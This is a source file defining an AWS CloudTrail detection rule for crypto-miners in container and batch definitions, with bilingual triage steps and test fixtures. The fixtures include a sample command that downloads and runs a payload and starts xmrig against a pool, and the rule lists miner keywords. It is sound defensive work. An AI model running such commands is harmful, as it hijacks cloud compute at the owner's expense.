import { defineDetection } from '../../detection.ts';
import { alice, call } from '../../example.ts';

export const detection = defineDetection({
  rule: `
title: A container definition carries the words of a miner
name: miner-in-container-definition
level: high
tags:
  - attack.execution
  - attack.t1610
  - attack.impact
  - attack.t1496.001
logsource:
  product: aws
  service: cloudtrail
detection:
  define:
    eventName:
      - RegisterTaskDefinition
      - RegisterJobDefinition
      - SubmitJob
      - RunTask
  miner:
    requestParameters|contains:
      - xmrig
      - stratum+tcp
      - stratum+ssl
      - stratum2+tcp
      - nicehash
      - nanominer
      - lolminer
      - t-rex
      - minergate
      - cpuminer
      - moneroocean
      - supportxmr
      - hashvault
      - '--donate-level'
      - randomx
      - verushash
  condition: define and miner
`,
  title: {
    en: 'A container definition carries the words of a miner',
    ko: '컨테이너 정의에 채굴 프로그램의 흔적이 있음',
  },
  triage: [
    {
      en: 'Read image, command and environment of the definition: pool addresses and wallets stand there.',
      ko: '정의의 이미지, 명령, 환경 변수를 읽으세요. 채굴 풀 주소와 지갑이 적혀 있습니다.',
    },
    {
      en: 'Find the services and jobs that use it, in every Region.',
      ko: '모든 리전에서 이 정의를 쓰는 서비스와 작업을 찾으세요.',
    },
  ],
  response: [
    {
      en: 'Contain the identity that registered it; set its services to zero tasks, stop tasks, deregister the definition.',
      ko: '등록한 보안 주체를 차단하고, 서비스의 태스크 수를 0으로 줄이고, 태스크를 중지한 뒤 정의를 등록 취소하세요.',
    },
    { en: 'Keep the definition as evidence.', ko: '정의를 증거로 남기세요.' },
  ],
  playbook: 'charges',
  matches: [
    call('ecs', 'RegisterTaskDefinition', alice, {
      family: 'web',
      cpu: '4096',
      containerDefinitions: [
        {
          image: 'ubuntu',
          command: ['sh', '-c', 'curl -sL example.net/x | tar xz; ./xmrig -o pool.example.net:443'],
        },
      ],
    }),
    call('batch', 'RegisterJobDefinition', alice, {
      jobDefinitionName: 'job',
      containerProperties: { image: 'alpine', command: ['./m', '-o', 'stratum+tcp://pool.example.net:3333'] },
    }),
  ],
  ignores: [
    call('ecs', 'RegisterTaskDefinition', alice, {
      family: 'web',
      cpu: '256',
      containerDefinitions: [
        { image: '111122223333.dkr.ecr.ap-northeast-2.amazonaws.com/web:12', command: ['node', 'server.js'] },
      ],
    }),
    call('ecs', 'DescribeTaskDefinition', alice, { taskDefinition: 'xmrig:1' }),
  ],
});
